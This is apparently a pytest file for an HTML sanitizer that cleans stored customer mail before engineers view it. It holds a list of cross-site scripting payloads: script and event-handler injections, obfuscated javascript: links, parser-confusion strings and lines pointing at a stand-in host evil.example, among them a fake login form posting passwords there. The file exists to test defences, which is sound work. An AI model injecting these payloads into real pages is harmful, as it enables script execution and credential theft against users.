"""A stranger's HTML on our own page: it may say what it likes and do nothing (T17)."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from gateway.parsers import safe_html
from gateway.parsers.safe_html import clean

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java&#10;script&colon;alert(1)'>x</a>",
    '<a href=" &#14; javascript:alert(1)">x</a>',
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href=//evil.example title='\"onmouseover=alert(1)//'>x</a>",
    "<a href='https://x.example/\"onmouseover=alert(1)//'>x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<form action=https://evil.example><input name=password><button>Log in</button></form>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>body{background:url(https://evil.example/x)}</style>",
    "<div style='position:fixed;top:0;left:0;background:url(https://evil.example)'>x</div>",
    "<table background=https://evil.example/x><tr><td background=x>x</table>",
    "<video poster=https://evil.example><source src=x></video>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<p id=login class=admin name=x>x</p>",
    "<b <script>alert(1)</script>0",
    "<a <!-- --> href='javascript:x'>y</a>",
    "<object data=x><embed src=x><param name=x></object>",
    "<a href=/cases/1/close>a page of ours</a>",
    "<template><img src=x onerror=alert(1)></template>",
]

_HARMLESS_TAG = re.compile(
    r"</?[a-z][a-z0-9]*>"
    r"|<a( href=\"(https?://|mailto:)[^\"<>]*\")?( rel=\"noopener noreferrer nofollow\")?>"
    r"|<(td|th)( (col|row)span=\"[^\"<>]*\")+>"
)
_DANGEROUS = re.compile(
    r"(?i)<(script|style|img|svg|math|form|input|iframe|base|meta|link|object|embed|video|template)"
)


def _assert_harmless(html: str) -> None:
    """Every tag is of the plainest shape; no other kind of attribute can be in it."""
    assert not _DANGEROUS.search(html)
    assert "<" not in _HARMLESS_TAG.sub("", html), html


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_that_acts_fetches_or_imitates_is_left(attack: str) -> None:
    """CVE-2026-32754 and its kin: stored HTML that runs in an engineer's browser."""
    shown = clean(f"<p>before</p>{attack}<p>after</p>")
    assert shown is not None
    _assert_harmless(shown)
    assert "before" in shown


@given(
    st.lists(
        st.sampled_from([*ATTACKS, "<p>", "</a>", "<b", "'", '"', ">", "<", "&", "=", "\0", "x"]), max_size=12
    )
)
def test_no_mixture_of_attacks_is_left_either(pieces: list[str]) -> None:
    """The rewriting pass and the parser disagree somewhere; nothing may slip through between them."""
    shown = clean("".join(pieces))
    assert shown is not None
    _assert_harmless(shown)


def test_words_structure_and_links_stay() -> None:
    """What a desk needs to read a customer's mail as it was meant."""
    page = (
        "<html><head><title>no</title><style>p{}</style></head><body><!-- no -->"
        "<p>设备 <b>FW-1</b> &amp; 2 &lt; 3 < 4 & 5</p><ul><li>one<li>two</ul>"
        "<table><tr><td colspan=2>SN 1</td></tr></table>"
        "<a href='https://x.example/?a=1&b=2' onclick=x>log</a> <a href=mailto:a@b.example>mail</a></body></html>"
    )
    assert clean(page) == (
        "<p>设备 <b>FW-1</b> &amp; 2 &lt; 3 &lt; 4 &amp; 5</p><ul><li>one</li><li>two</li></ul>"
        '<table><tbody><tr><td colspan="2">SN 1</td></tr></tbody></table>'
        '<a href="https://x.example/?a=1&amp;b=2" rel="noopener noreferrer nofollow">log</a> '
        '<a href="mailto:a@b.example" rel="noopener noreferrer nofollow">mail</a>'
    )


@pytest.mark.parametrize(
    "page",
    [
        "x" * (safe_html.MAX_LENGTH + 1),
        "<div>" * 5000,
        "<b></p>" * 5000,
        "<a><div>" * 5000,
        "<i></b>" * 5000,
        "<b><i><u><s><code><em>" + "<p>x" * 50_000,
        "&" * (safe_html.MAX_REFERENCES + 1),
        "\xb6" * (safe_html.MAX_REFERENCES + 1),
    ],
)
def test_what_would_cost_too_much_is_not_shown(page: str) -> None:
    """0.13: a hundred kilobytes of <div> cost nh3 a second, a megabyte three minutes; the text is shown instead."""
    assert clean(page) is None


def test_many_small_elements_are_not_too_much() -> None:
    """A long table of serial numbers is no attack."""
    page = "<table>" + "<tr><td>SN</td><td><b>FW</b></td></tr>" * 5000 + "</table>"
    shown = clean(page)
    assert shown is not None
    assert shown.count("<b>FW</b>") == 5000
